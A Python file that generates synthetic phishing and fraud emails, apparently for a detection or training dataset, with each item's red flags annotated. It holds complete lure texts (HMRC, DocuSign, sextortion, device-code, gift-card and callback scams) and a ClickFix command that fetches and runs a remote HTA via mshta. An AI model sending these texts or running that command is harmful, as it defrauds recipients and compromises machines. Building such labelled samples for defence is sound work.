"""Attack messages, English (09-16)."""
from util import *
from profiles import smtp_client, mailgun, sendgrid
from profiles2 import custom, paypal
from company import BTC, EG_GB_VRN
from lib.infra import TLS13


def a09():
    m = Msg("attack", 9, "en", "hmrc-vat-repayment",
            "HMRC look-alike: 'VAT repayment of GBP 3,482.16 is ready - verify your business account to receive it' with a "
            "link to a Government Gateway sign-in clone",
            "HMRC never e-mails refund offers with links; domain tax-refund-govuk.co.uk is not gov.uk; sent through a "
            "Mailgun account; quotes the real VRN (public from invoices) to look legitimate; deadline pressure.",
            pair="business 15")
    m.rcpt = "priya.nair@example.com"
    m.t = T(2026, 10, 21, 14, 22, 9, "UK")
    url = "https://tax-refund-govuk.co.uk/vat/repayment/claim?vrn=%s&ref=VRP%s" % (EG_GB_VRN, m.ctx.digits(8))
    vrn = "GB %s %s %s" % (EG_GB_VRN[:3], EG_GB_VRN[3:7], EG_GB_VRN[7:])
    F = dict(frm=addr("HM Revenue & Customs", "no-reply@tax-refund-govuk.co.uk", quote=True), to="priya.nair@example.com",
             subject="VAT repayment due - action required (VRN %s)" % EG_GB_VRN, t=m.t, from_domain="tax-refund-govuk.co.uk",
             env_local="no-reply")
    mailgun(m, F, ip="159.135.228.27", host="m228-27.mailgun.net")
    text = """HM Revenue & Customs

Dear Example Marinas UK Ltd,

Following the review of your VAT Return for the period ending 30 September 2026, we have calculated that you are due a repayment.

VAT registration number: %s
Repayment amount: £3,482.16
Reference: VRP-2026-118-4471

To receive this repayment, the bank account linked to your business tax account must be verified. Please sign in to your Government Gateway account and confirm your repayment details within 5 working days:

%s

If the details are not confirmed within this period, the repayment will be offset against future liabilities and a new claim will be required.

Yours sincerely

VAT Repayments Team
HM Revenue & Customs

This is an automated message. Please do not reply to this email.
""" % (vrn, url)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=%CS%"></head>
<body style="margin:0;font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c">
<div style="background:#0b0c0c;padding:12px 24px"><span style="color:#fff;font-weight:bold;font-size:22px">GOV.UK</span></div>
<div style="padding:24px;max-width:620px">
<p style="font-size:19px;font-weight:bold">HM Revenue &amp; Customs</p>
<p>Dear Example Marinas UK Ltd,</p>
<p>Following the review of your VAT Return for the period ending 30 September 2026, we have calculated that you are due a repayment.</p>
<table style="border-left:5px solid #1d70b8;padding-left:14px;margin:16px 0"><tr><td>VAT registration number:</td><td><b>VRN</b></td></tr>
<tr><td>Repayment amount:</td><td><b>&pound;3,482.16</b></td></tr><tr><td>Reference:</td><td>VRP-2026-118-4471</td></tr></table>
<p>To receive this repayment, the bank account linked to your business tax account must be verified. Please sign in and confirm your repayment details within <b>5 working days</b>.</p>
<p><a href="URL" style="background:#00703c;color:#fff;padding:10px 18px;text-decoration:none;font-weight:bold">Sign in to claim your repayment</a></p>
<p>If the details are not confirmed within this period, the repayment will be offset against future liabilities and a new claim will be required.</p>
<p>Yours sincerely<br>VAT Repayments Team<br>HM Revenue &amp; Customs</p>
<p style="font-size:13px;color:#505a5f">This is an automated message. Please do not reply to this email.</p></div></body></html>
""".replace("URL", url).replace("VRN", vrn)
    m.notes.append("URL " + url)
    m.notes.append("VRN %s (valid mod-97 VAT check)" % EG_GB_VRN)
    m.body = alt(m, text, html, "utf-8", "base64", quote_cs=False)
    return m


def a10():
    m = Msg("attack", 10, "en", "fake-docusign-charter-agreement",
            "Fake DocuSign notification: 'Sarah Collins sent you Charter Agreement S/Y Nordwind - Summer 2027 to review and "
            "sign', button to a DocuSign-styled credential page",
            "Not sent by DocuSign: from eu-docusign-mail.net via SendGrid, 'Review Document' points to a look-alike "
            "signing host, no envelope ID / security code section as in genuine DocuSign mail (compare business 11 from "
            "the same broker through DocuSign's own infrastructure).", pair="business 11")
    m.rcpt = "julia.brandt@examplegroup.eu"
    m.t = T(2026, 11, 10, 16, 4, 31)
    url = "https://eu-docusign-mail.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (m.ctx.uuid(), m.ctx.uuid(), m.ctx.uuid())
    F = dict(frm=addr("Sarah Collins via Docusign", "dse@eu-docusign-mail.net"), to="julia.brandt@examplegroup.eu",
             subject="Sarah Collins sent you a document to review and sign: Charter Agreement - S/Y Nordwind - Summer 2027",
             t=m.t, from_domain="eu-docusign-mail.net")
    sendgrid(m, F, ip="149.72.203.17", host="wrqvftnd")
    text = """Sarah Collins sent you a document to review and sign.

REVIEW DOCUMENT
%s

Sarah Collins
sarah.collins@bluehorizoncharters.co.uk

Hi Julia,
please find the charter agreement for S/Y Nordwind (Hanse 548), 03-17 July 2027, for our clients. Kindly review and sign by Friday so we can release the deposit.
Best regards, Sarah

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""" % url
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=%CS%"></head>
<body style="margin:0;background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="640" style="background:#ffffff"><tr><td style="padding:24px 32px 0"><span style="font-size:22px;font-weight:bold;color:#000">Docusign</span></td></tr>
<tr><td style="padding:16px 32px"><table width="100%" style="background:#4c00ff;color:#fff;text-align:center"><tr><td style="padding:32px">
<p style="font-size:16px">Sarah Collins sent you a document to review and sign.</p>
<p><a href="URL" style="background:#ffc820;color:#000;padding:12px 24px;font-weight:bold;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></p>
</td></tr></table></td></tr>
<tr><td style="padding:8px 32px 24px;font-size:15px;color:#333"><b>Sarah Collins</b><br><a href="mailto:sarah.collins@bluehorizoncharters.co.uk">sarah.collins@bluehorizoncharters.co.uk</a>
<p>Hi Julia,<br>please find the charter agreement for S/Y Nordwind (Hanse 548), 03-17 July 2027, for our clients. Kindly review and sign by Friday so we can release the deposit.<br>Best regards, Sarah</p></td></tr>
<tr><td style="background:#f4f4f4;padding:24px 32px;font-size:12px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table></body></html>
""".replace("URL", url)
    m.notes.append("URL " + url)
    m.body = alt(m, text, html, "utf-8", "quoted-printable", quote_cs=False)
    m.body.fold = False
    return m


def a11():
    m = Msg("attack", 11, "en", "svg-voicemail-attachment",
            "Voicemail lure with an SVG attachment ('VM_Playback_0047s.svg') that draws a play button linking to a "
            "credential page with the recipient's address in the URL",
            "Sent from a compromised plumbing company's Fasthosts mailbox (logged in from a foreign IP); company has no "
            "e-mail voicemail service; SVG used as HTML-capable attachment to evade filters; link to workers.dev.",
            pair=None)
    m.rcpt = "james.whitfield@example.com"
    m.t = T(2026, 11, 5, 10, 17, 45, "UK")
    c = m.ctx
    mid = "<%s$%s$%s@harbourside-plumbing.co.uk>" % (c.hex(12), c.hex(8), c.hex(8))
    F = dict(frm=addr("Voice Message Center", "office@harbourside-plumbing.co.uk"), to="james.whitfield@example.com",
             subject="New voicemail received from +44 23 8049 6127 (0:47 sec)", t=ago(m.t, 3), tz="UK",
             env="office@harbourside-plumbing.co.uk")
    smtp_client(m, F, relay="smtp-out2.livemail.co.uk", relay_ip="213.171.216.62", out_helo="smtp-out2.livemail.co.uk",
                client_helo="[127.0.0.1]", client_rdns="unknown", client_ip="196.251.72.14",
                auth="office@harbourside-plumbing.co.uk", mid=mid, order="script", relay_tz="UK")
    url = "https://vm-playback-7e2.workers.dev/?m=james.whitfield@example.com&id=VM%s" % c.digits(7)
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px">
<p>You have received a new voice message.</p>
<table style="border:1px solid #ccc;font-size:13px" cellpadding="6">
<tr><td>From:</td><td>+44 23 8049 6127</td></tr>
<tr><td>To:</td><td>james.whitfield@example.com</td></tr>
<tr><td>Duration:</td><td>0 min 47 sec</td></tr>
<tr><td>Received:</td><td>Thu 05/11/2026 09:58</td></tr></table>
<p>The audio recording is attached to this message.</p>
<p style="font-size:11px;color:#888">Unified Messaging Service</p>
</body></html>
"""
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="180" viewBox="0 0 420 180">
  <rect width="420" height="180" rx="10" fill="#1f2937"/>
  <text x="24" y="40" font-family="Segoe UI, Arial" font-size="18" fill="#ffffff">Voice Message - 0:47</text>
  <text x="24" y="64" font-family="Segoe UI, Arial" font-size="13" fill="#9ca3af">From +44 23 8049 6127 · for james.whitfield@example.com</text>
  <a xlink:href="URL" href="URL" target="_blank">
    <circle cx="60" cy="120" r="28" fill="#2563eb"/>
    <polygon points="52,106 52,134 76,120" fill="#ffffff"/>
    <text x="104" y="126" font-family="Segoe UI, Arial" font-size="15" fill="#ffffff">Play message (sign in with Microsoft 365)</text>
  </a>
  <rect x="104" y="140" width="290" height="6" rx="3" fill="#374151"/>
</svg>
""".replace("URL", url)
    m.notes.append("SVG link " + url)
    m.body = Multipart("mixed", [
        Text(html, "html", "us-ascii", "7bit"),
        Attachment(svg.encode("utf-8"), "image/svg+xml", "VM_Playback_0047s_05Nov.svg")], m.boundary())
    return m


def a12():
    m = Msg("attack", 12, "en", "sextortion-bitcoin",
            "Sextortion/extortion: 'your device was hacked, pay USD 1,450 in Bitcoin within 48 hours' sent to the recipient "
            "'from' his own address",
            "From: spoofs the recipient's own address but the mail arrives directly from a Vietnamese broadband IP without "
            "TLS; mass-mailed template; extortion with a bech32 Bitcoin address.", pair=None)
    m.rcpt = "james.whitfield@example.com"
    m.t = T(2026, 12, 6, 3, 41, 26)
    c = m.ctx
    t = ago(m.t, 1)
    custom(m, ("static.vnpt.vn", "unknown", "113.161.87.204", None), "<james.whitfield@example.com>", [],
           [("Message-ID", "<%s@example.com>" % c.hex(20)), ("From", "<james.whitfield@example.com>"),
            ("To", "<james.whitfield@example.com>"), ("Subject", "Your account has been compromised: james.whitfield"),
            ("Date", fmt(t, "+0700")), ("MIME-Version", "1.0"), ("MIME", None),
            ("X-Priority", "3"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512")])
    text = """Hello!

I have to share bad news with you.
Approximately few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).
Obviously, I have easily managed to log in to your email account (james.whitfield@example.com).

One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.
I was able to record videos of you through your camera while you were visiting adult websites, and I have copied your contacts, photos and correspondence.

If you want me to delete all of it, transfer 1450 USD (US dollars) in Bitcoin to my wallet:

%s

After receiving the payment, I will delete the video and you will never hear from me again.
You have 48 hours (2 days) to make the payment. I receive a notification as soon as you open this email, and the timer starts now.

Do not try to contact me, reply to this email or go to the police - my address is generated automatically and I will notice immediately.
If I see that you have shared this message with someone else, the video will be sent to all your colleagues and contacts at once.

Best wishes
""" % BTC
    m.notes.append("BTC %s (bech32 checksum valid)" % BTC)
    m.body = Text(text, "plain", "us-ascii", "7bit", quote_cs=False)
    return m


def a13():
    m = Msg("attack", 13, "en", "device-code-phishing-broker",
            "Device-code phishing: a 'Blue Horizon' broker asks to open microsoft.com/devicelogin and enter a code to view "
            "the Q3 commission statement 'in our secure Microsoft 365 portal'",
            "Look-alike domain bluehorizon-charter.co.uk (real partner: bluehorizoncharters.co.uk) on an OVH VPS; the "
            "code is the attacker's device-authorisation code - entering it and signing in hands the attacker OAuth tokens "
            "for Julia's account (Storm-2372 technique); 15-minute urgency.", pair="business 11, 14")
    m.rcpt = "julia.brandt@examplegroup.eu"
    m.t = T(2026, 11, 19, 11, 32, 8)
    c = m.ctx
    F = dict(frm=addr("Sarah Collins", "sarah.collins@bluehorizon-charter.co.uk"), to=staff("julia.brandt"),
             subject="RE: Commission statement Q3 2026 - secure access", t=ago(m.t, 3), tz="UK",
             env="sarah.collins@bluehorizon-charter.co.uk", lang="en-gb",
             irt="<DB9PR02MB7321F1B5A6C7D8E9F0A1B2C3D4E5F6A7@DB9PR02MB7321.eurprd02.prod.outlook.com>")
    smtp_client(m, F, relay="vps-8c31e2f4.vps.ovh.net", relay_ip="51.91.213.47", out_helo="mail.bluehorizon-charter.co.uk",
                client_helo="[192.168.1.5]", client_rdns="unknown", client_ip="185.213.154.169",
                auth="sarah.collins@bluehorizon-charter.co.uk", mailer="Microsoft Outlook 16.0",
                mid=c.outlook_imap_mid("bluehorizon-charter.co.uk"), relay_tz="UK")
    code = "GH4K9PXQW"
    text = """Hi Julia,

Hope you're well. As promised on the phone, our finance team has now moved the Q3 commission statements to our secure Microsoft 365 portal - we can no longer send them as attachments because of the new data protection policy.

To open your statement:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: %s
3. Sign in with your usual Example Group account

The code is only valid for 15 minutes, so please do it as soon as you see this. If it has expired just let me know and I'll generate a new one.

The statement covers the 14 bookings for Nordwind, Seeadler and Meltemi; total commission GBP 18,640.00.

Kind regards,
Sarah

Sarah Collins
Partner Relations Manager
Blue Horizon Charter Brokers Ltd
Quay Hill, Lymington SO41 3AR
""" % code
    m.notes.append("device code %s; genuine URL microsoft.com/devicelogin abused" % code)
    m.body = alt(m, text, outlook_html(text, "EN-GB"), "utf-8", "quoted-printable")
    return m


def a14():
    m = Msg("attack", 14, "en", "booking-guest-complaint-clickfix",
            "Booking.com partner impersonation: 'guest complaint about reservation 5538120471, respond within 24 h'; the "
            "attached 'guest message' HTML shows a fake 'verify you are human' check instructing Win+R, Ctrl+V, Enter "
            "(ClickFix)",
            "Booking.com does not send guest messages as HTML attachments; sender domain booking-partnerhub-messages.com via "
            "Mailgun; ClickFix instructs the user to run an mshta command fetching a remote HTA (clipboard script removed "
            "here, command shown as text) - the hospitality-targeting campaign seen since 2024.", pair=None)
    m.rcpt = "julia.brandt@examplegroup.eu"
    m.t = T(2026, 12, 2, 9, 6, 50)
    c = m.ctx
    F = dict(frm=addr("Booking.com Partner Hub", "noreply@booking-partnerhub-messages.com", quote=True),
             to="julia.brandt@examplegroup.eu",
             subject="Guest complaint about reservation 5538120471 - response required within 24 hours",
             t=m.t, from_domain="booking-partnerhub-messages.com", env_local="noreply")
    mailgun(m, F, ip="159.135.140.88", host="m140-88.mailgun.net")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;font-family:BlinkMacSystemFont,-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif;color:#1a1a1a">
<div style="background:#003580;padding:16px 24px;color:#fff;font-size:22px;font-weight:bold">Booking.com <span style="font-weight:normal;font-size:14px">Partner Hub</span></div>
<div style="padding:24px;max-width:620px;font-size:14px;line-height:20px">
<p>Dear partner,</p>
<p>A guest has submitted a complaint regarding their stay at your property <b>Example Marina Kiel - Boatel</b>.</p>
<table cellpadding="4" style="font-size:14px"><tr><td>Reservation number:</td><td><b>5538120471</b></td></tr>
<tr><td>Guest name:</td><td>Markus Engel</td></tr><tr><td>Check-in:</td><td>27 November 2026</td></tr>
<tr><td>Subject:</td><td>Cleanliness / safety issue on board</td></tr></table>
<p>The guest's message and photos are attached to this email. Please review them and respond via the extranet within <b>24 hours</b>. Unanswered complaints may affect your review score and property visibility.</p>
<p>Kind regards,<br>Booking.com Customer Service</p>
<p style="font-size:11px;color:#6b6b6b">This email was sent by Booking.com B.V., Herengracht 597, 1017 CE Amsterdam, Netherlands</p>
</div></body></html>
"""
    cmd = 'mshta https://bkng-guestverify.com/cap/5538120471.hta # I am not a robot - reCAPTCHA Verification ID: 2271'
    att = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Guest message 5538120471</title>
<style>body{font-family:Roboto,Arial,sans-serif;background:#f2f2f2;margin:0}.c{width:420px;margin:80px auto;background:#fff;border:1px solid #d3d3d3;padding:24px}
.chk{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;display:flex;align-items:center}.box{width:24px;height:24px;border:2px solid #c1c1c1;margin-right:12px}
ol{font-size:14px;line-height:24px}code{display:block;background:#f1f3f4;padding:8px;font-size:12px;word-break:break-all}</style></head>
<body><div class="c">
<p style="font-size:16px"><b>Booking.com</b> - Guest message for reservation 5538120471</p>
<div class="chk"><div class="box"></div>I'm not a robot<span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privacy - Terms</span></div>
<p style="font-size:14px;margin-top:18px"><b>Verification steps</b> - complete to display the guest's message and photos:</p>
<ol><li>Press <b>Windows key + R</b></li><li>Press <b>CTRL + V</b> (the verification code has been copied)</li><li>Press <b>Enter</b></li></ol>
<p style="font-size:12px;color:#555">Verification code:</p><code>CMD</code>
</div></body></html>
""".replace("CMD", esc(cmd))
    m.notes.append("ClickFix command (text only) " + cmd)
    m.body = Multipart("mixed", [
        Text(html, "html", "utf-8", "base64", quote_cs=False),
        Attachment(att.encode("utf-8"), "text/html", "Guest_Message_5538120471.html")], m.boundary())
    return m


def a15():
    m = Msg("attack", 15, "en", "ceo-gift-cards-icloud",
            "Gift-card scam: 'Klaus Hoffmann' (iCloud address) asks the UK office manager to buy eight GBP 250 Apple gift "
            "cards for clients and send photos of the codes",
            "CEO's name on a private iCloud address; secrecy, 'email only', request for gift-card codes - a pure fraud "
            "pattern; no business process buys gift cards this way.", pair="business 01")
    m.rcpt = "james.whitfield@example.com"
    m.t = T(2026, 12, 11, 10, 2, 13, "UK")
    c = m.ctx
    F = dict(frm=addr("Klaus Hoffmann", "klaus.hoffmann.office@icloud.com"), to=staff("james.whitfield"),
             subject="Quick favour", t=ago(m.t, 2), tz="CET", env="klaus.hoffmann.office@icloud.com")
    smtp_client(m, F, relay="qs51p00im-qukt01071901.me.com", relay_ip="17.57.155.23",
                out_helo="qs51p00im-qukt01071901.me.com", client_helo="smtpclient.apple",
                client_rdns="unknown", client_ip="102.90.47.188", auth=None, mailer="iPhone Mail (22C152)",
                mid="<%s@icloud.com>" % c.uuid(upper=True), order="apple")
    m.trace[0] = ("Received", "from smtpclient.apple (qs51p00im-dlb-asmtp-mailmevip.me.com [17.57.155.28])\n\tby qs51p00im-qukt01071901.me.com (Postfix) with ESMTPSA id %s\n\tfor <%s>; %s"
                  % (c.postfix_qid(), m.rcpt, fmt(ago(m.t, 1), "UTC") + " (UTC)"))
    text = """James,

Are you in the office today? I need you to handle something for me discreetly.

I'm meeting two of our most important charter clients in Monaco this afternoon and want to give them a thank-you gesture from the group. Please pick up 8 Apple gift cards at 250 GBP each (Tesco or Boots should have them), scratch off the back and send me clear photos of the codes by reply. Sabine will reimburse you in full with your next expenses.

I'm in meetings back to back, so email only please, and keep it between us for now - it's meant to be a surprise.

Thanks
Klaus

Sent from my iPhone
"""
    m.body = Text(text, "plain", "us-ascii", "quoted-printable", quote_cs=False)
    return m


def a16():
    m = Msg("attack", 16, "en", "paypal-invoice-callback-toad",
            "Callback phishing (TOAD) through a genuine PayPal invoice: 'Microsoft Defender Renewals' bills GBP 389.99 for "
            "a 3-year renewal; the seller note says to call a freephone number to cancel",
            "Genuine PayPal infrastructure abused by a fraudulent merchant account; nobody at the UK office bought "
            "this; the goal is a phone call where the victim is talked into installing remote-access software or paying "
            "a 'refund' - callback phishing.", pair=None)
    m.rcpt = "priya.nair@example.com"
    m.t = T(2026, 10, 29, 15, 48, 3, "UK")
    c = m.ctx
    F = dict(frm=addr("service@paypal.co.uk", "service@paypal.co.uk", quote=True), to="Priya Nair <priya.nair@example.com>",
             subject="Invoice from Microsoft Defender Renewals (#INV2-7QKD-4TRX-9LWA-3MZE)", t=m.t)
    paypal(m, F)
    phone = "0808 157 0192"
    inv_url = "https://www.paypal.com/invoice/p/#INV27QKD4TRX9LWA3MZE"
    text = """Microsoft Defender Renewals sent you an invoice

Amount due: £389.99 GBP
Due on receipt

Invoice number: INV-448127
Seller note: Your Microsoft Defender Advanced Protection plan (3 years, 5 devices) has been renewed and £389.99 will be charged to your account within 24 hours. If you did not authorise this renewal, call our billing department on %s (Mon-Sun, 24h) to cancel and receive a full refund. Do not pay this invoice if you want to cancel.

View and pay invoice: %s

Not sure what this is for? Contact the merchant before paying.

PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
Copyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.
""" % (phone, inv_url)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=%CS%"></head>
<body style="margin:0;background:#f5f7fa;font-family:'PayPal Sans',Helvetica,Arial,sans-serif;color:#001435">
<table width="100%"><tr><td align="center" style="padding:24px"><table width="600" style="background:#fff;border-radius:8px">
<tr><td style="padding:24px 32px"><span style="font-size:26px;font-weight:bold;color:#003087">PayPal</span></td></tr>
<tr><td style="padding:0 32px"><p style="font-size:22px">Microsoft Defender Renewals sent you an invoice</p>
<p style="font-size:30px;font-weight:bold">£389.99 GBP</p><p>Due on receipt</p>
<p style="background:#f1f2f5;padding:14px;font-size:14px"><b>Seller note</b><br>Your Microsoft Defender Advanced Protection plan (3 years, 5 devices) has been renewed and £389.99 will be charged to your account within 24 hours. If you did not authorise this renewal, call our billing department on <b>PHONE</b> (Mon-Sun, 24h) to cancel and receive a full refund. Do not pay this invoice if you want to cancel.</p>
<p><a href="URL" style="background:#003087;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></p>
<p style="font-size:13px">Invoice number: INV-448127</p></td></tr>
<tr><td style="padding:24px 32px;font-size:11px;color:#6c7378">Not sure what this is for? Contact the merchant before paying.<br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>Copyright © 1999-2026 PayPal. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
""".replace("PHONE", phone).replace("URL", inv_url)
    m.notes.append("callback number %s (Ofcom drama range)" % phone)
    m.body = alt(m, text, html, "UTF-8", "quoted-printable")
    return m


BUILDERS = [a09, a10, a11, a12, a13, a14, a15, a16]
